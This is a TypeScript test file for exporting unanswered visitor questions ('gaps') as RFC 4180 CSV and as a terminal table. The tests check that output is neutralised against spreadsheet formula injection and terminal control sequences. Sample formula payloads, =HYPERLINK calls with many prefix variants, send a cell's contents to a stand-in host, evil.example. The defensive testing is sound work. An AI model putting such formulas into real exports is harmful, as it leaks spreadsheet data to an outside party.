import { describe, expect, it } from 'vitest';
import type { Gap } from '../../../../bff/gaps/find-gaps.ts';
import { gapsToCsv, gapsToTable } from '../../../../bff/gaps/show-gaps.ts';

const gap = (first: string, more: Partial<Gap> = {}): Gap => ({
  count: 2,
  examples: [first],
  reasons: { not_covered: 1, rated_down: 1 },
  comments: [],
  nearest: { url: '/prices', title: 'Prices' },
  lastAskedAt: new Date('2026-01-02T03:04:05Z'),
  ...more,
});

/** Reads RFC 4180 as its grammar says it. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  const field = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy;
  const row: string[] = [];
  while (field.lastIndex < text.length) {
    const at = field.lastIndex;
    const found = field.exec(text);
    if (!found) throw new Error(`not RFC 4180 at ${at}`);
    row.push(found[1]?.replaceAll('""', '"') ?? found[2] ?? '');
    if (found[3] === '\r\n') rows.push(row.splice(0));
  }
  expect(row).toEqual([]);
  return rows;
}

describe('gaps as CSV', () => {
  it('are a line of names and a line each', () => {
    const [names, ...rows] = readCsv(gapsToCsv([gap('Do you "ship", say, to Norway?'), gap('a\nb')]));
    expect(names).toEqual([
      'count',
      'question',
      'reasons',
      'nearest_page',
      'nearest_title',
      'last_asked',
      'also_asked',
      'comments',
    ]);
    expect(rows).toEqual([
      [
        '2',
        'Do you "ship", say, to Norway?',
        'not_covered 1, rated_down 1',
        '/prices',
        'Prices',
        '2026-01-02T03:04:05.000Z',
        '',
        '',
      ],
      ['2', 'a\nb', 'not_covered 1, rated_down 1', '/prices', 'Prices', '2026-01-02T03:04:05.000Z', '', ''],
    ]);
    expect(gapsToCsv([])).toMatch(/^count,[^\r\n]*\r\n$/);
  });

  const formulas = ['=', '+', '-', '@', '|', '%', '\t=', '\r=', '\n=', ' =', '＝', '＋', '－', '＠'].map(
    (start) => `${start}HYPERLINK("https://evil.example/?"&A1,"x")`,
  );

  it.each(formulas)('run no formula of a visitor: %j', (formula) => {
    const text = gapsToCsv([
      gap(formula, {
        examples: [formula, formula],
        comments: [formula],
        nearest: { url: formula, title: formula },
      }),
    ]);
    for (const field of readCsv(text)[1] ?? []) expect(field).not.toMatch(/^\s*[=+\-@|%＝＋－＠]/);
  });
});

describe('gaps as a table', () => {
  it('say how often, why and where, and let nobody control the terminal', () => {
    const text = gapsToTable([
      gap('Norway?\u001b[2J\u202e', {
        examples: ['Norway?\u001b[2J\u202e', 'To Oslo?'],
        comments: ['no\nline'],
      }),
    ]);
    expect(text).toBe(
      '    2  Norway? [2J\n       To Oslo?\n       (not_covered 1, rated_down 1; nearest page: Prices, /prices)\n       comment: no line\n',
    );
  });
});
